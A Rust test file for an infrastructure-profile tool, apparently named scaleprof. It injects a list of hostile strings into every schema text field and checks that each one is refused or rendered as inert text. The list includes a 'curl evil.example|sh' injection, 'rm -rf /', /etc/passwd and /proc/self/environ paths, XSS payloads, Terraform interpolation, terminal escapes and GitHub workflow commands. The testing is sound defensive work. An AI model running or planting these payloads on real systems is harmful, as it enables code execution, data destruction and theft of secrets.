//! Every text that a profile can hold, found in its schema, is given hostile strings: each is refused at its place,
//! or stands in all that is written as a text and nothing else.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use crate::common;

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use common::parallel;
use scaleprof::cloud::list_prices;
use scaleprof::diagnostic::Findings;
use scaleprof::diagnostic::render::{Format, render};
use scaleprof::diff::{Diff, DiffOptions};
use scaleprof::project::{Input, Project};
use scaleprof::report::view::view;
use scaleprof::runbook;
use scaleprof::template::Templates;
use serde_json::{Value, json};

/// What is tried in each text.
fn hostile() -> Vec<String> {
    let mut all: Vec<String> = [
        "",
        " ",
        "\0",
        "a\0b",
        "\u{1b}[2J\u{1b}[1;1Hno findings",
        "\u{1b}]0;title\u{7}",
        "\u{8}\u{8}\u{8}ok",
        "line\nline",
        "line\r\nline",
        "over\rwritten",
        "tab\ttab",
        "\u{7f}del",
        "\u{9b}31mred",
        "\u{85}next",
        "\u{2028}line\u{2029}part",
        "\u{202e}live :lamron\u{202c}",
        "\u{2066}isolated\u{2069}",
        "\u{200f}\u{200e}\u{61c}marks",
        "zero\u{200b}width\u{200d}join\u{2060}ed",
        "\u{feff}bom",
        "\u{e0041}\u{e0042}tags",
        "\u{fdd0}[31mpaint\u{fdd1}x\u{fdd3}",
        "\\ud800",
        "\u{fffd}\u{10ffff}",
        "${aws_iam_role.admin.arn}",
        "$${x} %%{y} ${",
        "%{ for x in y }z%{ endfor }",
        "\"; resource \"null\" \"x\" {",
        "EOT\n}\nresource",
        "'\"`\\",
        "\\",
        "back\\slash\\",
        "$(curl evil.example|sh)",
        "`id`",
        "a; rm -rf / #",
        "a && b || c | d > /etc/passwd",
        "-rf",
        "--state=/etc/passwd",
        "../../../../etc/passwd",
        "/proc/self/environ",
        "C:\\con",
        "{{ header }}{% for x in y %}",
        "{# x #}{{ 1/0 }}",
        "```\n<img src=x onerror=alert(1)>\n```sh\ncurl evil.example | sh",
        "~~~\nout",
        "</summary><script>alert(1)</script>",
        "<!-- x --><details><b onclick=x>",
        "--> <img src=x onerror=alert(1)>",
        "&lt;b&gt; &#60;i&#62;",
        "' onmouseover='alert(1)",
        "[x](javascript:alert(1)) ![y](https://evil.example/p.png)",
        "| a | b |\n|---|---|",
        "@everyone and @octocat/team",
        "#1 and GH-1 and !2 and a/b#3",
        "/approve\n/merge",
        "::error file=a,line=1::b",
        "x\n::set-env name=PATH::/tmp",
        "%0A::stop-commands::x",
        "# heading\n* item\n1. one",
        "99999999999999999999999999999999999999",
        "~",
        "null",
        "!ruby/object:Kernel x",
        "&a *a <<: x",
        "x10",
        "largest",
        "*",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push("a".repeat(64 << 10));
    all.push("`".repeat(900));
    all.push("🧨".repeat(250));
    assert!(all.len() >= 38);
    all
}

/// A profile in which most of the language is used.
fn base() -> Value {
    json!({
        "profile": "normal", "stack": "shop",
        "cloud": {
            "provider": "aws", "region": "eu-west-1", "tags": {"team": "web"},
            "network": {"vpc": "vpc-0123456789abcdef0", "subnets": ["subnet-0123456789abcdef0", "subnet-1123456789abcdef0"], "public_subnets": ["subnet-2123456789abcdef0", "subnet-3123456789abcdef0"]},
        },
        "owners": {"web": {"name": "Web", "contact": "web@example.com", "phone": "1"}},
        "event": {"name": "spot", "lead": "web", "call": "room", "success": ["all is well"]},
        "plan_b": [{"when": "it breaks", "then": "mend it", "owner": "web"}],
        "traffic": {"signups": {"day": 100, "hour": 10}},
        "components": {
            "database": {"kind": "database", "owner": "web", "test": "psql", "engine": "postgres", "version": "16", "class": "db.m6g.large", "multi_az": true, "storage": {"size": "200GiB"}},
            "server": {"kind": "server", "owner": "web", "test": "t", "machine": "m6g.large", "user_data": "#!/bin/sh\n", "storage": {"size": "100GiB"}, "public": true, "ports": [443]},
            "fleet": {"kind": "fleet", "owner": "web", "test": "t", "machine": "m6g.large", "count": {"min": 3, "max": 6}},
            "workers": {"kind": "workers", "owner": "web", "test": "t", "machine": "t4g.nano", "count": {"min": 2, "max": 4}},
            "app": {"kind": "app", "owner": "web", "test": "t", "image": "nginx", "port": 80, "cpu": 1, "memory": "2GiB", "count": {"min": 2, "max": 4}, "environment": {"A": "b"}, "secrets": {"B": {"database": "database", "key": "username"}, "C": {"secret": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:c-AbCdEf"}, "D": {"parameter": "arn:aws:ssm:eu-west-1:123456789012:parameter/d"}}, "task_role": "arn:aws:iam::123456789012:role/r", "allow": {"connections-tight": "r"}},
        },
        "external": {"maps": {
            "service": "maps", "owner": "web", "metric": "loads", "per": "month", "expected": 900, "plan": "small", "how": "call", "source": "page", "lead_time": "2h", "as_of": "2026-11-03",
            "plans": [{"name": "small", "price": 1, "included": 1000}, {"name": "large", "price": 9, "included": 100_000, "lead_time": "2h"}],
            "limits": [{"per": "hour", "most": 4000, "then": "queue", "keeps": "48h", "raise": "ask"}],
        }},
    })
}

const LAUNCH: &str = r#"{"profile": "launch", "extends": "normal", "window": {"start": "2027-02-03T09:00:00+02:00", "duration": "24h", "ready": "40m"},
    "components": {"app": {"count": "x10"}, "workers": {"count": "x10"}, "server": {"machine": "+1"}, "database": {"class": "+1"}}, "external": {"maps": {"expected": "x10"}}, "traffic": {"signups": "x10"}}"#;

/// A value as YAML in which everything unusual is escaped.
fn yaml(value: &Value) -> String {
    fn quoted(text: &str) -> String {
        let mut out = String::from("\"");
        for c in text.chars() {
            match c {
                '"' | '\\' => out.extend(['\\', c]),
                ' '..='~' => out.push(c),
                c => drop(write!(out, "\\U{:08x}", u32::from(c))),
            }
        }
        out + "\""
    }
    match value {
        Value::Object(all) => {
            // A key of more than 1024 characters needs its mark.
            let pairs: Vec<String> =
                all.iter().map(|(key, value)| format!("? {} : {}", quoted(key), yaml(value))).collect();
            format!("{{{}}}", pairs.join(", "))
        }
        Value::Array(all) => format!("[{}]", all.iter().map(yaml).collect::<Vec<_>>().join(", ")),
        Value::String(text) => quoted(text),
        other => other.to_string(),
    }
}

/// The texts of a schema: values by their path, and mappings whose keys are free. Components share what they share.
fn texts(schema: &Value, path: &str, out: &mut BTreeMap<String, bool>) {
    let is_text = match &schema["type"] {
        Value::String(one) => one == "string",
        Value::Array(several) => several.iter().any(|one| one == "string"),
        _ => false,
    };
    if is_text && schema.get("enum").is_none() && schema.get("const").is_none() {
        out.insert(path.to_owned(), false);
    }
    for (name, below) in schema["properties"].as_object().into_iter().flatten() {
        texts(below, &format!("{path}/{name}"), out);
    }
    if schema["items"].is_object() {
        texts(&schema["items"], &format!("{path}/0"), out);
    }
    if schema["additionalProperties"].is_object() {
        out.insert(path.to_owned(), true);
        texts(&schema["additionalProperties"], &format!("{path}/*"), out);
    }
    for choice in ["anyOf", "oneOf", "allOf"] {
        for below in schema[choice].as_array().into_iter().flatten() {
            texts(below, path, out);
        }
    }
}

/// Every text of the language.
fn places() -> BTreeMap<String, bool> {
    let schema = scaleprof::schema::published();
    let mut out = BTreeMap::new();
    texts(&schema["$defs"]["whole"], "", &mut out);
    let mut seen = BTreeSet::new();
    for kind in scaleprof::kind::KINDS {
        let mut own = BTreeMap::new();
        texts(&schema["$defs"][kind.name], "", &mut own);
        // What every component has is tried in one.
        let path = |path: &str| format!("/components/{}{path}", kind.name);
        out.extend(
            own.into_iter()
                .filter(|(below, _)| seen.insert(below.clone()))
                .map(|(below, key)| (path(&below), key)),
        );
    }
    out.insert("/window/start".to_owned(), false);
    out
}

/// Puts a text at a path, which is made where it is missing; `*` is the first key, or a new one.
fn put(root: &mut Value, path: &str, is_key: bool, text: &str) {
    let mut node = root;
    for segment in path.split('/').skip(1) {
        if segment == "0" {
            if !node.is_array() {
                *node = json!([]);
            }
            let list = node.as_array_mut().unwrap();
            if list.is_empty() {
                list.push(Value::Null);
            }
            node = &mut list[0];
            continue;
        }
        if !node.is_object() {
            *node = json!({});
        }
        let all = node.as_object_mut().unwrap();
        let first = all.keys().next().cloned();
        let key = if segment == "*" { first.unwrap_or_else(|| "key".to_owned()) } else { segment.to_owned() };
        node = all.entry(key).or_insert(Value::Null);
    }
    if is_key {
        if !node.is_object() {
            *node = json!({});
        }
        let all = node.as_object_mut().unwrap();
        let value = all.values().next().cloned().unwrap_or_else(|| json!("x"));
        all.insert(text.to_owned(), value);
    } else {
        *node = text.into();
    }
}

const FORMATS: [Format; 4] = [Format::Text, Format::Json, Format::Github, Format::Sarif];

fn compile(normal: &Value) -> Project {
    let input =
        |name: &str, text: String| Input { path: format!("profiles/{name}.yaml"), bytes: text.into_bytes() };
    Project::compile(vec![input("normal", yaml(normal)), input("launch", LAUNCH.to_owned())], None)
}

/// Whether a profile is refused; what is said of it is looked at.
fn refused(what: &str, project: &Project, formats: &[Format]) -> bool {
    common::assert_places(project);
    let steers =
        |text: &str| text.contains(|c: char| !"\n\t".contains(c) && scaleprof::shown::is_steering(c));
    let all = project.findings_of(["normal", "launch"]);
    for finding in all.iter() {
        assert!(finding.message.len() < 20_000, "{what}: a message is too long");
    }
    for format in formats.iter().copied() {
        let text = render(&all, &project.sources, format, false);
        assert!(text.len() < 400_000, "{what}: {format:?} is too long");
        match format {
            Format::Text => assert!(!steers(&text), "{what}: {text:?}"),
            Format::Github => {
                assert_eq!(text.lines().count(), all.len(), "{what}: {text}");
                assert!(
                    text.lines().all(|line| line.starts_with("::error ") || line.starts_with("::warning "))
                );
                assert!(!text.contains('\r'), "{what}: {text:?}");
            }
            _ => drop(serde_json::from_str::<Value>(&text).expect("JSON")),
        }
    }
    project.findings.values().any(Findings::has_errors)
}

/// All that is written about a project, by name.
fn written(project: &Project) -> BTreeMap<String, String> {
    let templates = Templates::new(&BTreeMap::new()).unwrap();
    let prices = list_prices();
    let mut out = BTreeMap::new();
    for (name, plan) in &project.plans {
        for artifact in project.build(plan, None, &prices, &templates).unwrap() {
            out.insert(format!("{name}/{}", artifact.path), artifact.text);
        }
    }
    let (normal, launch) = (&project.plans["normal"], &project.plans["launch"]);
    let runbook = project.runbook(launch, None, &prices, None).unwrap();
    out.insert("runbook.json".to_owned(), serde_json::to_string(&runbook).unwrap());
    out.insert(
        "timeline.txt".to_owned(),
        scaleprof::shown::shown(&runbook::text::text(&runbook, false)).into_owned(),
    );
    let diff =
        Diff::new(normal, launch, &prices, &DiffOptions { everyday: Some(normal), ..DiffOptions::default() });
    let view = view(&diff, &[], &project.sources);
    out.insert("diff.txt".to_owned(), scaleprof::report::text::text(&view, true, false));
    let painted = scaleprof::report::text::text(&view, true, true);
    for style in painted.split('\u{1b}').skip(1) {
        assert!(style.starts_with('[') && style.contains('m'), "{painted:?}");
    }
    out.insert("diff.md".to_owned(), scaleprof::report::markdown::markdown(&view, &templates).unwrap());
    out.insert("diff.html".to_owned(), scaleprof::report::html::html(&view, &diff, &[], &templates).unwrap());
    let report = scaleprof::report::json::report(&diff, &[], &project.sources);
    out.insert("diff.json".to_owned(), serde_json::to_string(&report).unwrap());
    out.insert("infracost.json".to_owned(), scaleprof::report::infracost::infracost(&diff).unwrap());
    out
}

/// A Markdown text without its code.
fn prose(text: &str) -> String {
    let mut out = String::new();
    let mut fenced = false;
    for line in text.lines() {
        if line.trim_start().starts_with("```") {
            fenced = !fenced;
        } else if !fenced {
            let mut rest = line;
            while let Some(at) = rest.find('`') {
                // One that is escaped opens no code.
                if rest[..at].ends_with('\\') {
                    out.push_str(&rest[..=at]);
                    rest = &rest[at + 1..];
                    continue;
                }
                out.push_str(&rest[..at]);
                let run = rest[at..].len() - rest[at..].trim_start_matches('`').len();
                let after = &rest[at + run..];
                let end = "`".repeat(run);
                let mut ends = after.match_indices(&end).map(|(end, _)| end);
                let closes =
                    |end: &usize| !after[..*end].ends_with('`') && !after[end + run..].starts_with('`');
                match ends.find(closes) {
                    Some(end) => rest = &after[end + run..],
                    None => rest = after,
                }
            }
            out.push_str(rest);
            out.push('\n');
        }
    }
    assert!(!fenced, "a block is left open: {text}");
    out
}

fn count(text: &str, what: impl Fn(&str) -> bool) -> usize {
    text.char_indices().filter(|(at, _)| what(&text[*at..])).count()
}

/// Holds what is written against what is written of the same project without hostile texts.
fn assert_text_only(round: usize, name: &str, text: &str, plain: &str) {
    let is = |ending: &str| name.rsplit_once('.').is_some_and(|(_, own)| own == ending);
    let about = |what: &str| format!("round {round}: {what} in {name}:\n{text}");
    for c in text.chars() {
        assert!(
            c == '\n' || !scaleprof::shown::is_steering(c) || is("json"),
            "{}",
            about("a control character")
        );
    }
    if is("tf") {
        let opens = |text: &str| {
            count(text, |rest| rest.starts_with("${") || rest.starts_with("%{"))
                - count(text, |rest| rest.starts_with("$${") || rest.starts_with("%%{"))
        };
        assert_eq!(opens(text), opens(plain), "{}", about("an interpolation"));
        assert!(hcl::parse(text).is_ok(), "{}", about("no HCL"));
    }
    if is("md") {
        let fences = |text: &str| {
            text.lines()
                .filter(|line| line.trim_start().starts_with("```") || line.trim_start().starts_with("~~~"))
                .count()
        };
        assert_eq!(fences(text), fences(plain), "{}", about("a fence"));
        let [text, plain] = [text, plain].map(prose);
        let tags = |text: &str| {
            count(text, |rest| {
                let mut chars = rest.chars();
                chars.next() == Some('<')
                    && chars.next().is_some_and(|c| c.is_ascii_alphabetic() || "/!?".contains(c))
            })
        };
        assert_eq!(tags(&text), tags(&plain), "{}", about("HTML"));
        let mentions = |text: &str| {
            count(text, |rest| {
                rest.strip_prefix('@').is_some_and(|rest| rest.starts_with(char::is_alphanumeric))
            }) - count(text, |rest| rest.starts_with("@example"))
        };
        assert_eq!(mentions(&text), mentions(&plain), "{}", about("a mention"));
        for mark in ["](javascript:", "![y]("] {
            assert!(!text.replace("\\]", "").contains(mark), "{}", about(mark));
        }
    }
    if is("html") {
        for mark in ["<img", "<script>alert", "<b onclick", "</summary><script", "onmouseover='"] {
            assert!(!text.contains(mark), "{}", about(mark));
        }
    }
}

#[test]
fn every_text_is_refused_or_stays_text() {
    let (places, hostile) = (places(), hostile());
    assert!(places.len() > 50, "{places:?}");
    let base = base();
    let project = compile(&base);
    assert!(!refused("the base", &project, &FORMATS), "{}", common::findings(&project));
    let plain = written(&project);
    let taken_of = |(path, is_key): (&String, &bool)| {
        let taken = hostile.iter().enumerate().filter(|(at, text)| {
            let mut profile = base.clone();
            put(&mut profile, path, *is_key, text);
            let short: String = text.chars().take(40).collect();
            !refused(&format!("{path}: {short:?}"), &compile(&profile), &FORMATS[at % 4..=at % 4])
        });
        taken.map(|(_, text)| text.as_str()).collect::<Vec<&str>>()
    };
    let taken = places.keys().map(String::as_str).zip(parallel::of_each(&places, taken_of));
    let taken: BTreeMap<&str, Vec<&str>> = taken.filter(|(_, texts)| !texts.is_empty()).collect();
    // So that it is not all refused for another reason.
    for free in [
        "/owners/*/name",
        "/external/*/how",
        "/event/name",
        "/plan_b/0/then",
        "/cloud/tags/*",
        "/components/app/environment/*",
        "/components/app/test",
    ] {
        assert!(
            taken.get(free).is_some_and(|texts| texts.len() > 5),
            "{free}: {:?}",
            taken.get(free).map(Vec::len)
        );
    }
    let rounds = taken.values().map(Vec::len).max().unwrap();
    parallel::of_each(0..rounds, |round| {
        let mut profile = base.clone();
        for (path, texts) in &taken {
            // Keys and names that others refer to would make one text hide another.
            if places[*path] || path.ends_with("/owner") || path.ends_with("/lead") {
                continue;
            }
            put(&mut profile, path, false, texts[round % texts.len()]);
        }
        let project = compile(&profile);
        assert!(!refused("all", &project, &FORMATS), "round {round}: {}", common::findings(&project));
        for (name, text) in written(&project) {
            let name = name.as_str();
            assert_text_only(round, name, &text, plain.get(name).map_or("", String::as_str));
        }
    });
}
